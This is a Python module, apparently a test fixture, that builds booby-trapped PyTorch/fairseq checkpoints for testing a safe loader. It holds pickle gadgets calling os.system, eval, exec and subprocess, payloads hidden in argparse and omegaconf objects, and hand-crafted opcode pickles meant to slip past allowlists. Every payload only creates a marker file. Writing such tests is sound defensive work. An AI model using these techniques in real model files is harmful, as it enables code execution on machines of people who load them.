"""Checkpoints that do harm when they are unpickled, of the kinds that are known: each leaves a marker file."""

from __future__ import annotations

import argparse
import builtins
import os
import subprocess
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import numpy
import torch


class Call:
    """Pickles as a call of ``function`` with ``arguments``, which unpickling makes."""

    def __init__(self, function: Callable[..., Any], *arguments: Any) -> None:
        self.call = function, arguments

    def __reduce__(self) -> Any:
        return self.call


def payloads(marker: Path) -> dict[str, Any]:
    """By name, objects whose unpickling makes the file ``marker``."""
    from fairseq import utils
    from omegaconf import OmegaConf

    python = f"open({str(marker)!r}, 'w').close()"
    shell = f"touch '{marker}'"
    namespace = argparse.Namespace(harmless=1)
    namespace.hidden = Call(os.system, shell)
    config = OmegaConf.create({"model": {"arch": "x"}})
    config._content["model"]._content["arch"].__dict__["_val"] = Call(os.system, shell)
    pickled = marker.with_suffix(".npy")
    numpy.save(pickled, numpy.array([Call(os.system, shell)], dtype=object), allow_pickle=True)
    return {
        "os.system": Call(os.system, shell),
        "eval": Call(builtins.eval, python),
        "exec": Call(builtins.exec, python),
        "subprocess": Call(subprocess.call, ["touch", str(marker)]),
        "fairseq's own eval": Call(utils.eval_str_list, f"[{python} or 1]"),
        "numpy.load of a pickle": Call(numpy.load, str(pickled), None, True),
        "inside an allowed object": namespace,
        "inside an omegaconf node": config,
    }


def raw_pickles(marker: Path) -> dict[str, bytes]:
    """By name, pickles that no pickler writes, whose unpickling makes the file ``marker``."""
    shell = f"touch '{marker}'".encode()
    text = b"X" + len(shell).to_bytes(4, "little") + shell  # BINUNICODE
    return {
        "dotted name in an allowed module": b"\x80\x04\x8c\x08argparse\x8c\x0a_os.system\x93" + text + b"\x85R.",
        "INST": b"(" + text + b"ios\nsystem\n.",
        "OBJ": b"(cos\nsystem\n" + text + b"o.",
        "getattr": b"\x80\x02cbuiltins\ngetattr\ncargparse\n_os\nX\x06\x00\x00\x00system\x86R" + text + b"\x85R.",
        "in the state of an allowed object": b"\x80\x02cargparse\nNamespace\n)\x81}X\x01\x00\x00\x00acposix\nsystem\n"
        + text
        + b"\x85Rsb.",
    }


def write_raw(path: Path, pickle: bytes) -> None:
    """A torch archive around ``pickle``."""
    torch.save({"model": {}}, path)
    with zipfile.ZipFile(path) as archive:
        members = {info.filename: archive.read(info) for info in archive.infolist()}
    with zipfile.ZipFile(path, "w", zipfile.ZIP_STORED) as archive:
        for name, data in members.items():
            archive.writestr(name, pickle if name.endswith("/data.pkl") else data)
